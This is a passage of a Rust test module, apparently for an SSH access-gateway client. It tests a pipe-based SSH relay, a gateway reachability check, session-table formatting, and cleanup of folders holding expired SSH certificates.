        tokio::io::DuplexStream,
        tokio::task::JoinHandle<std::io::Result<()>>,
    ) {
        let (ssh_in, ssh_writes) = tokio::io::duplex(1024);
        let (ssh_reads, ssh_out) = tokio::io::duplex(1024);
        let (conn, server) = tokio::io::duplex(1024);
        let relay = tokio::spawn(carry(ssh_in, ssh_out, conn));
        (ssh_writes, ssh_reads, server, relay)
    }

    #[tokio::test]
    async fn a_relay_ends_when_the_servers_side_does_though_ssh_keeps_its_input_open() {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        let (mut ssh_writes, mut ssh_reads, mut server, relay) = relay_between_pipes();
        ssh_writes.write_all(b"client hello").await.unwrap();
        let mut got = [0u8; 12];
        server.read_exact(&mut got).await.unwrap();
        assert_eq!(&got, b"client hello");
        server.write_all(b"server bye").await.unwrap();
        // The server's side ends; ssh's input stays open (`ssh_writes`).
        drop(server);
        let ended = tokio::time::timeout(Duration::from_secs(5), relay).await;
        assert!(
            matches!(ended, Ok(Ok(Ok(())))),
            "the relay did not end with the server's side: {ended:?}"
        );
        let mut rest = Vec::new();
        ssh_reads.read_to_end(&mut rest).await.unwrap();
        assert_eq!(rest, b"server bye");
        drop(ssh_writes);
    }

    #[tokio::test]
    async fn a_relay_passes_the_end_of_sshs_input_on_and_reads_the_answer_to_its_end() {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        let (mut ssh_writes, mut ssh_reads, mut server, relay) = relay_between_pipes();
        ssh_writes.write_all(b"last words").await.unwrap();
        drop(ssh_writes);
        let mut got = Vec::new();
        server.read_to_end(&mut got).await.unwrap();
        assert_eq!(got, b"last words");
        server.write_all(b"the answer").await.unwrap();
        drop(server);
        let ended = tokio::time::timeout(Duration::from_secs(5), relay).await;
        assert!(matches!(ended, Ok(Ok(Ok(())))), "{ended:?}");
        let mut rest = Vec::new();
        ssh_reads.read_to_end(&mut rest).await.unwrap();
        assert_eq!(rest, b"the answer");
    }

    #[tokio::test]
    async fn an_unreachable_gateway_is_told_at_once() {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let gw = GatewayAddr::parse(&format!("127.0.0.1:{port}")).unwrap();
        assert_eq!(check_reachable(&gw, Duration::from_secs(5)).await, Ok(()));
        drop(listener);
        let started = std::time::Instant::now();
        assert_eq!(
            check_reachable(&gw, Duration::from_secs(5)).await,
            Err("connection refused".to_string())
        );
        assert!(started.elapsed() < Duration::from_secs(5));
    }

    fn info(id: &str, state: SessionState, reason: Option<EndReasonT>) -> SessionInfo {
        SessionInfo {
            session_id: id.into(),
            resource: "web1".into(),
            account: "root".into(),
            username: "root".into(),
            gateway: "gw1".into(),
            user: "alice".into(),
            created_at: "2026-12-02T13:00:00Z".into(),
            expires_at: "2026-12-02T14:00:00Z".into(),
            started_at: None,
            ended_at: reason.map(|_| "2026-12-02T13:30:00Z".to_string()),
            state,
            reusable: false,
            end_reason: reason,
            end_detail: None,
        }
    }

    type EndReasonT = gatepass_api::pam::EndReason;

    #[test]
    fn sessions_tables() {
        let list = SessionList {
            keys: vec!["s2".into(), "s1".into()],
            key_info: [
                (
                    "s1".to_string(),
                    info("s1", SessionState::Ended, Some(EndReasonT::GatewayLost)),
                ),
                ("s2".to_string(), info("s2", SessionState::Active, None)),
            ]
            .into_iter()
            .collect(),
            next_after: None,
        };
        let sessions = in_order(list);
        assert_eq!(
            sessions_table(&sessions),
            "Session    State                   Resource    Account    User     Created                 Ends/ended\n\
             -------    -----                   --------    -------    ----     -------                 ----------\n\
             s2         active                  web1        root       alice    2026-12-02T13:00:00Z    2026-12-02T14:00:00Z\n\
             s1         ended (gateway_lost)    web1        root       alice    2026-12-02T13:00:00Z    2026-12-02T13:30:00Z\n"
        );
        let rows = session_rows(&sessions[1]);
        assert!(rows.contains(&("end_reason".into(), json!("gateway_lost"))));
        assert!(rows.contains(&("started_at".into(), Value::Null)));
    }

    #[test]
    fn expired_session_folders_go() {
        let base = tempfile::tempdir().unwrap();
        let mut rng = rand::rngs::OsRng;
        let ca = PrivateKey::random(&mut rng, Algorithm::Ed25519).unwrap();
        let key = PrivateKey::random(&mut rng, Algorithm::Ed25519).unwrap();
        let make = |name: &str, key_id: &str, before: u64| {
            let mut b = ssh_key::certificate::Builder::new_with_random_nonce(
                &mut rand::rngs::OsRng,
                key.public_key(),
                0,
                before,
            )
            .unwrap();
            b.key_id(key_id).unwrap();
            b.valid_principal("root").unwrap();
            let cert = b.sign(&ca).unwrap();
            let d = base.path().join(name);
            fs::create_dir(&d).unwrap();
            fs::write(d.join("id-cert.pub"), cert.to_openssh().unwrap()).unwrap();
        };
        make("old", "old", 1000);
        make("live", "live", 3000);
        make("other", "not-this-folder", 1000);
        fs::create_dir(base.path().join("plain")).unwrap();
        remove_ended(base.path(), 2000);
        let mut left: Vec<String> = fs::read_dir(base.path())
            .unwrap()
            .map(|e| e.unwrap().file_name().into_string().unwrap())
            .collect();
        left.sort();
        assert_eq!(left, ["live", "other", "plain"]);
    }
}
